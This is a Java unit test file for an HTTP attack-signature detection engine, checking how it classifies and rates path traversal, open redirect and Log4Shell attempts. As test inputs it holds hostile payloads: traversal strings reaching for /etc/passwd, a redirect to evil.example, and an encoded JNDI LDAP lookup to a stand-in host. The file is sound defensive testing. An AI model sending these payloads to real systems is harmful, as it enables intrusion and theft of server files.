package io.periscope.detection.signature.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.periscope.detection.signature.AttackClass;
import io.periscope.detection.signature.Exchanges;
import io.periscope.detection.signature.LocationKind;
import io.periscope.events.http.Header;
import io.periscope.events.http.HttpResponse;
import io.periscope.events.http.QueryParam;
import java.util.List;
import org.junit.jupiter.api.Test;

class SignatureEngineTest {
    private final SignatureEngine engine = SignatureEngine.withDefaults();

    private List<SignatureFinding> traversalAnswered(HttpResponse response) {
        var request = Exchanges.request("GET", "/download", List.of(new QueryParam("file", "../../../../etc/passwd")),
                List.of(), null, null);
        return engine.inspect(Exchanges.exchange(request, response));
    }

    @Test
    void anAttemptRefusedWith403IsALowSeverityProbe() {
        SignatureFinding f = traversalAnswered(Exchanges.response(403, "text/html", "Forbidden", 9)).get(0);
        assertThat(f.attackClass()).isEqualTo(AttackClass.PATH_TRAVERSAL);
        assertThat(f.outcome()).isEqualTo(Outcome.REFUSED);
        assertThat(f.severity()).isEqualTo(Severity.LOW);
    }

    @Test
    void anAttemptAnsweredWithTheFilesContentIsCritical() {
        SignatureFinding f = traversalAnswered(Exchanges.response(200, "text/plain",
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", 80)).get(0);
        assertThat(f.outcome()).isEqualTo(Outcome.REVEALING);
        assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    }

    @Test
    void aLargeAnswerIsHighAndAnOrdinaryOneMediumAndNoneMedium() {
        assertThat(traversalAnswered(Exchanges.response(200, "application/octet-stream", "x", 10_000_000)).get(0).severity())
                .isEqualTo(Severity.HIGH);
        assertThat(traversalAnswered(Exchanges.response(200, "text/plain", "ok", 2)).get(0).severity()).isEqualTo(Severity.MEDIUM);
        assertThat(traversalAnswered(null).get(0).outcome()).isEqualTo(Outcome.UNANSWERED);
    }

    @Test
    void aServerErrorWithAStackTraceReveals() {
        SignatureFinding f = traversalAnswered(Exchanges.response(500, "text/html",
                "<pre>java.lang.NullPointerException\n\tat java.base/java.io.File.<init></pre>", 60)).get(0);
        assertThat(f.outcome()).isEqualTo(Outcome.REVEALING);
    }

    @Test
    void anOpenRedirectFollowedToTheAttackersHostReveals() {
        var request = Exchanges.request("GET", "/login", List.of(new QueryParam("next", "//evil.example/")), List.of(), null, null);
        List<SignatureFinding> f = engine.inspect(Exchanges.exchange(request, Exchanges.redirect("//evil.example/")));
        assertThat(f).anySatisfy(x -> {
            assertThat(x.attackClass()).isEqualTo(AttackClass.OPEN_REDIRECT);
            assertThat(x.outcome()).isEqualTo(Outcome.REVEALING);
        });
    }

    @Test
    void encodedPayloadsAreJudgedDecodedAndOneFindingPerClassAndLocation() {
        var request = Exchanges.request("GET", "/a", List.of(new QueryParam("u", "%252e%252e%252f%252e%252e%252fetc%252fpasswd")),
                List.of(new Header("User-Agent", "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D")), null, null);
        List<SignatureFinding> f = engine.inspect(Exchanges.exchange(request, null));
        assertThat(f).extracting(SignatureFinding::attackClass).containsExactlyInAnyOrder(AttackClass.PATH_TRAVERSAL,
                AttackClass.LOG4SHELL);
        assertThat(f).filteredOn(x -> x.attackClass() == AttackClass.LOG4SHELL).singleElement()
                .satisfies(x -> assertThat(x.location().kind()).isEqualTo(LocationKind.HEADER));
    }

    @Test
    void aBenignRestCallHasNoFinding() {
        var request = Exchanges.request("POST", "/api/v1/orders", List.of(new QueryParam("page", "2")),
                List.of(new Header("User-Agent", "okhttp/4.12.0"), new Header("Accept", "application/json")),
                "application/json", "{\"items\":[{\"sku\":\"X-1\",\"qty\":2}],\"note\":\"Please select a plan; O'Brien & co\"}");
        assertThat(engine.inspect(Exchanges.exchange(request, Exchanges.response(201, null, null, 0)))).isEmpty();
        assertThat(engine.stats().exchanges()).isEqualTo(1);
    }

    @Test
    void evidenceIsMaskedAndBounded() {
        var request = Exchanges.request("GET", "/a", List.of(new QueryParam("f",
                "../../etc/passwd?key=AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7&x=\n" + "y".repeat(500))), List.of(), null, null);
        SignatureFinding f = engine.inspect(Exchanges.exchange(request, null)).get(0);
        assertThat(f.evidence()).hasSizeLessThanOrEqualTo(200).doesNotContain("AKIAIOSFODNN7EXAMPLEAKIAIOSFODNN7")
                .doesNotContain("\n");
    }
}
